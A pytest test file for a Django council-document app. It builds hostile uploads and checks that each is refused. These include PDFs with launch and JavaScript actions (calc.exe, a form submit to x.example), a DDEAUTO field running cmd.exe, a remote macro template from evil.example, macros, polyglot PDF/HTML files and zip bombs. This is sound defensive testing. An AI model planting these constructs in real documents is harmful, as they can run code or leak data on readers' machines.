"""Only passive documents: each hostile file is built here and refused with its message, nothing saved."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from resolutions import services
from resolutions.attachments import FILE_ERROR_CODES, ODT
from resolutions.filecheck import (
    CONTAINER_MISMATCH_ERROR,
    IMAGE_BROKEN_ERROR,
    IMAGE_TRAILING_DATA_ERROR,
    OFFICE_EXTERNAL_ERROR,
    OFFICE_MACRO_ERROR,
    OFFICE_SCRIPT_ERROR,
    PDF_EMBEDDED_ERROR,
    PDF_ENCRYPTED_ERROR,
    PDF_SCRIPT_ERROR,
    PDF_XFA_ERROR,
    POLYGLOT_ERROR,
    TOO_COMPLEX_ERROR,
    TOO_MANY_PAGES_ERROR,
    UNPACKED_TOO_LARGE_ERROR,
    limits,
)
from resolutions.models import Attachment
from tests.factories import TINY_PDF, pdf_bytes
from tests.resolutions.conftest import messages_of, rendered
from tests.resolutions.documents import REL, image, ooxml, opendocument, pdf_with, zip_of

HTML = b"<html><body><script>fetch('/admin/').then(r => r.text()).then(alert)</script></body></html>"


def _name(key: str) -> NameObject:
    return NameObject(key)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
    return action


def _written(build=None) -> bytes:
    """A one-page PDF from pypdf's writer, changed by `build(writer)` first."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if build is not None:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def _add(draft, clerk, name: str, content: bytes) -> Attachment:
    return services.attachment_add(
        paper=draft, by=clerk, uploaded_file=SimpleUploadedFile(name, content), name="Anlage"
    )


def _refused(settings, draft, clerk, name, content, message) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        _add(draft, clerk, name, content)
    assert messages_of(excinfo.value) == [message]
    assert name in rendered(excinfo.value)
    # The forms put it on the file field, where the clerk chose the file.
    assert {error.code for error in excinfo.value.error_list} <= FILE_ERROR_CODES
    assert not Attachment.objects.exists()
    assert _stored_files(settings) == []
    return excinfo.value


# --- PDF ---------------------------------------------------------------------------------------
def _open_action(kind: str, **entries):
    def build(writer):
        writer.root_object[_name("/OpenAction")] = writer._add_object(_action(kind, **entries))

    return build


def _page_additional_action(writer):
    # Opening the page opens a web address: a beacon.
    triggers = DictionaryObject({_name("/O"): _action("/URI", URI="https://tracker.example/beacon")})
    writer.pages[0][_name("/AA")] = triggers


def _launching_link(writer):
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([]),
            _name("/A"): _action("/Launch", F="cmd.exe"),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])


def _xfa_form(writer):
    form = DictionaryObject({_name("/Fields"): ArrayObject(), _name("/XFA"): TextStringObject("<xdp:xdp/>")})
    writer.root_object[_name("/AcroForm")] = writer._add_object(form)


def _document_script(writer):
    # Document-level JavaScript: the catalog's /Names /JavaScript name tree, run on opening.
    script = writer._add_object(_action("/JavaScript", JS="app.alert('Hallo');"))
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("start"), script])})
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(tree)})


def _chained_script(writer):
    # A harmless GoTo on opening, with JavaScript chained after it by /Next.
    script = writer._add_object(_action("/JavaScript", JS="app.alert(1)"))
    opening = _action("/GoTo")
    opening[_name("/D")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    opening[_name("/Next")] = script
    writer.root_object[_name("/OpenAction")] = opening


HOSTILE_PDFS = {
    "javascript_name_tree": (_document_script, PDF_SCRIPT_ERROR),
    "open_action_launch": (_open_action("/Launch", F="calc.exe"), PDF_SCRIPT_ERROR),
    "open_action_javascript": (
        _open_action("/JavaScript", JS="this.submitForm('https://x.example')"),
        PDF_SCRIPT_ERROR,
    ),
    "open_action_uri": (_open_action("/URI", URI="https://tracker.example/"), PDF_SCRIPT_ERROR),
    "open_action_chained_script": (_chained_script, PDF_SCRIPT_ERROR),
    "page_additional_action": (_page_additional_action, PDF_SCRIPT_ERROR),
    "launching_link": (_launching_link, PDF_SCRIPT_ERROR),
    "embedded_file": (lambda writer: writer.add_attachment("rechnung.exe", b"MZ\x90\x00"), PDF_EMBEDDED_ERROR),
    "xfa_form": (_xfa_form, PDF_XFA_ERROR),
    "encrypted": (lambda writer: writer.encrypt("", "eigentuemer", algorithm="RC4-128"), PDF_ENCRYPTED_ERROR),
}


@pytest.mark.parametrize("kind", HOSTILE_PDFS)
def test_a_pdf_with_active_content_is_refused(settings, draft, clerk, kind):
    build, message = HOSTILE_PDFS[kind]
    _refused(settings, draft, clerk, f"{kind}.pdf", _written(build), message)


def test_javascript_in_a_plain_object_is_found_wherever_it_hangs(settings, draft, clerk):
    # A JavaScript action only referenced from an outline item (a bookmark), not from the catalog's names.
    content = pdf_with(
        b"/Outlines 4 0 R",
        b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
        b"<</Title(Start)/Parent 4 0 R/A<</S/JavaScript/JS(app.alert(1))>>>>",
    )
    _refused(settings, draft, clerk, "lesezeichen.pdf", content, PDF_SCRIPT_ERROR)


def test_a_pdf_that_is_also_a_web_page_is_refused(settings, draft, clerk):
    # The polyglot: a valid PDF whose first bytes a browser would sniff as HTML with a script.
    head_polyglot = TINY_PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + HTML + b"\n", 1)
    _refused(settings, draft, clerk, "polyglott.pdf", head_polyglot, POLYGLOT_ERROR)


def test_a_pdf_with_markup_after_its_end_is_refused(settings, draft, clerk):
    _refused(settings, draft, clerk, "angehaengt.pdf", TINY_PDF + HTML, POLYGLOT_ERROR)


def test_a_pdf_of_fifty_thousand_pages_is_refused_in_the_request_without_reading_them(settings, draft, clerk):
    # One page object listed 50,000 times: 300 kB on disk, 50,000 pages to a reader.
    pages = 50_000
    content = pdf_bytes(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, b" ".join([b"3 0 R"] * pages)),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    )
    error = _refused(settings, draft, clerk, "riesig.pdf", content, TOO_MANY_PAGES_ERROR)
    assert error.error_list[0].params == {"name": "riesig.pdf", "pages": pages, "limit": limits().pages}


def test_the_page_limit_comes_from_the_settings(settings, draft, clerk):
    settings.RATSBUCH_MAX_PAGES = 1
    two_pages = _written(lambda writer: writer.add_blank_page(width=200, height=200))
    _refused(settings, draft, clerk, "zwei.pdf", two_pages, TOO_MANY_PAGES_ERROR)
    settings.RATSBUCH_MAX_PAGES = 2
    assert _add(draft, clerk, "zwei.pdf", two_pages).checked


def test_a_pdf_with_more_reachable_objects_than_its_pages_justify_is_refused(settings, draft, clerk):
    settings.RATSBUCH_MAX_PAGES = 1
    count = limits().pdf_objects + 10
    # An outline of that many bookmarks, each its own object, chained by /Next.
    bookmarks = [b"<</Title(%d)/Next %d 0 R>>" % (n, n + 6) for n in range(count)] + [b"<</Title(Ende)>>"]
    content = pdf_with(b"/Outlines 4 0 R", b"<</Type/Outlines/First 5 0 R>>", *bookmarks)
    error = _refused(settings, draft, clerk, "verschachtelt.pdf", content, TOO_COMPLEX_ERROR)
    assert error.error_list[0].params["limit"] == limits().pdf_objects


def _passive_link(writer):
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([]),
            _name("/A"): _action("/URI", URI="https://www.ludwigshafen.de/"),
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])
    # Opening at the first page, fitted: a destination, no action.
    writer.root_object[_name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])


def test_a_passive_pdf_with_a_link_and_an_opening_view_is_accepted(draft, clerk):
    added = _add(draft, clerk, "beitritt.pdf", _written(_passive_link))
    assert (added.mime_type, added.checked, added.text_state) == ("application/pdf", True, "pending")


# --- office documents ------------------------------------------------------------------------
VBA_TYPE = "application/vnd.ms-office.vbaProject"
OLE_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SETTINGS_PART = (
    '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    f' xmlns:r="{REL}"><w:attachedTemplate r:id="rId1"/></w:settings>'
)


def _relationships(*relations: str) -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relations)
        + "</Relationships>"
    )


HOSTILE_OFFICE = {
    # The VBA project under an innocent name, declared by its content type and relationship.
    "macro_under_another_name.docx": (
        ooxml(
            types=f'<Override PartName="/word/grafik.dat" ContentType="{VBA_TYPE}"/>',
            main_rels='<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/'
            'vbaProject" Target="grafik.dat"/>',
            extra=[("word/grafik.dat", OLE_BYTES)],
        ),
        OFFICE_MACRO_ERROR,
    ),
    # A compound file (VBA, ActiveX, OLE) hidden as a picture, undeclared: found by its content.
    "ole_as_picture.docx": (ooxml(extra=[("word/media/image1.png", OLE_BYTES)]), OFFICE_MACRO_ERROR),
    "remote_template.docx": (
        ooxml(
            extra=[
                ("word/settings.xml", SETTINGS_PART),
                (
                    "word/_rels/settings.xml.rels",
                    _relationships(
                        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                        'Target="https://evil.example/vorlage.dotm" TargetMode="External"/>'
                    ),
                ),
            ]
        ),
        OFFICE_EXTERNAL_ERROR,
    ),
    "linked_ole.docx": (
        ooxml(
            main_rels=f'<Relationship Id="rId7" Type="{REL}/oleObject" Target="file://server/share/kosten.xls" '
            'TargetMode="External"/>'
        ),
        OFFICE_MACRO_ERROR,
    ),
    "activex.docx": (
        ooxml(
            types='<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>',
            extra=[("word/activeX/activeX1.xml", "<ax:ocx/>")],
        ),
        OFFICE_MACRO_ERROR,
    ),
    "remote_picture.docx": (
        ooxml(
            main_rels=f'<Relationship Id="rId8" Type="{REL}/image" Target="https://tracker.example/p.png" '
            'TargetMode="External"/>'
        ),
        OFFICE_EXTERNAL_ERROR,
    ),
    "dde_field.docx": (
        ooxml(
            body='<w:body><w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
            "</w:r></w:p></w:body>"
        ),
        OFFICE_EXTERNAL_ERROR,
    ),
    "macro_workbook.xlsx": (
        ooxml(
            "xl/workbook.xml",
            types='<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            extra=[("xl/vbaProject.bin", OLE_BYTES)],
        ),
        OFFICE_MACRO_ERROR,
    ),
    "html_as_main_part.docx": (ooxml(extra=[("word/document.xml", HTML)]), CONTAINER_MISMATCH_ERROR),
    "basic_macro.odt": (
        opendocument(
            extra=[
                (
                    "Basic/Standard/Module1.xml",
                    '<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
                ),
                ("Basic/script-lc.xml", "<library:libraries/>"),
            ]
        ),
        OFFICE_SCRIPT_ERROR,
    ),
    "event_script.odt": (
        opendocument(
            body="<office:text><text:p>Beitritt<office:event-listeners><script:event-listener "
            'script:language="ooo:script" script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
            "</office:event-listeners></text:p></office:text>"
        ),
        OFFICE_SCRIPT_ERROR,
    ),
    "remote_image.odt": (
        opendocument(
            body='<office:text><text:p><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/>'
            "</draw:frame></text:p></office:text>"
        ),
        OFFICE_EXTERNAL_ERROR,
    ),
    "ole_object.odt": (
        opendocument(
            body='<office:text><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></office:text>'
        ),
        OFFICE_MACRO_ERROR,
    ),
    # The ZIP declares itself an ODT and holds only a web page.
    "html_in_odt.odt": (zip_of([("mimetype", ODT), ("index.html", HTML)]), CONTAINER_MISMATCH_ERROR),
    "manifest_of_another_type.odt": (
        zip_of(
            [
                ("mimetype", ODT),
                (
                    "META-INF/manifest.xml",
                    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                    '<manifest:file-entry manifest:full-path="/" manifest:media-type="text/html"/></manifest:manifest>',
                ),
                ("content.xml", HTML),
            ]
        ),
        CONTAINER_MISMATCH_ERROR,
    ),
}


@pytest.mark.parametrize("name", HOSTILE_OFFICE)
def test_an_office_document_with_active_content_is_refused(settings, draft, clerk, name):
    content, message = HOSTILE_OFFICE[name]
    _refused(settings, draft, clerk, name, content, message)


def test_passive_office_documents_with_a_hyperlink_are_accepted(draft, clerk):
    linked = ooxml(
        main_rels=f'<Relationship Id="rId5" Type="{REL}/hyperlink" Target="https://www.ludwigshafen.de/" '
        'TargetMode="External"/>'
    )
    odt = opendocument(
        body='<office:text><text:p><text:a xlink:href="https://www.ludwigshafen.de/">Stadt</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/plan.png"/></draw:frame></office:text>'
    )
    for name, content in (("link.docx", linked), ("link.odt", odt)):
        added = _add(draft, clerk, name, content)
        assert (added.checked, added.text_state) == (True, "none")


def test_a_zip_bomb_is_refused_by_its_declared_size(settings, draft, clerk):
    settings.RATSBUCH_MAX_UNPACKED_BYTES = 1024 * 1024
    # 8 MiB of zeros, some kilobytes on disk.
    bomb = ooxml(extra=[("word/media/image1.png", b"\x00" * (8 * 1024 * 1024))])
    assert len(bomb) < 64 * 1024
    _refused(settings, draft, clerk, "bombe.docx", bomb, UNPACKED_TOO_LARGE_ERROR)


def _understate(archive_bytes: bytes, member: str, declared: int) -> bytes:
    """The archive with `member`'s uncompressed size given as `declared` in both headers (a lying archive)."""
    data = bytearray(archive_bytes)
    with zipfile.ZipFile(io.BytesIO(archive_bytes)) as archive:
        info = archive.getinfo(member)
    local = info.header_offset
    struct.pack_into("<I", data, local + 22, declared)  # local header: uncompressed size
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_length] == member.encode():
            struct.pack_into("<I", data, central + 24, declared)  # central directory: uncompressed size
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def test_a_zip_bomb_that_understates_its_size_is_stopped_while_reading(settings, draft, clerk):
    settings.RATSBUCH_MAX_UNPACKED_BYTES = 1024 * 1024
    honest = ooxml(extra=[("word/media/image1.png", b"\x00" * (8 * 1024 * 1024))])
    lying = _understate(honest, "word/media/image1.png", 100)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert sum(info.file_size for info in archive.infolist()) < 1024 * 1024
    with pytest.raises(ValidationError) as excinfo:
        _add(draft, clerk, "luegt.docx", lying)
    # Whether the inflation passes the declared size first or the checksum fails first, it is refused.
    assert messages_of(excinfo.value)[0] in (UNPACKED_TOO_LARGE_ERROR, CONTAINER_MISMATCH_ERROR)
    assert not Attachment.objects.exists()
    assert _stored_files(settings) == []


# --- images -----------------------------------------------------------------------------------
def test_a_png_with_html_after_its_end_is_refused(settings, draft, clerk):
    _refused(settings, draft, clerk, "lageplan.png", image("PNG") + HTML, IMAGE_TRAILING_DATA_ERROR)


def test_a_jpeg_with_data_after_its_end_is_refused(settings, draft, clerk):
    _refused(settings, draft, clerk, "foto.jpg", image("JPEG") + b"PK\x03\x04" + HTML, IMAGE_TRAILING_DATA_ERROR)


def test_a_truncated_png_is_refused(settings, draft, clerk):
    png = image("PNG")
    _refused(settings, draft, clerk, "halb.png", png[: len(png) // 2], IMAGE_BROKEN_ERROR)


def test_a_jpeg_with_a_thumbnail_and_restart_markers_is_accepted(draft, clerk):
    from PIL import Image

    buffer = io.BytesIO()
    picture = Image.new("RGB", (64, 64), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "Kamera"
    picture.save(buffer, format="JPEG", exif=exif, progressive=True, restart_marker_blocks=1)
    added = _add(draft, clerk, "foto.jpg", buffer.getvalue())
    assert (added.mime_type, added.checked) == ("image/jpeg", True)


def test_a_png_with_extra_chunks_is_accepted(draft, clerk):
    png = image("PNG")
    text = b"tEXtComment\x00Lageplan"
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    with_text = png[:33] + chunk + png[33:]  # after the IHDR chunk
    added = _add(draft, clerk, "plan.png", with_text)
    assert added.mime_type == "image/png"
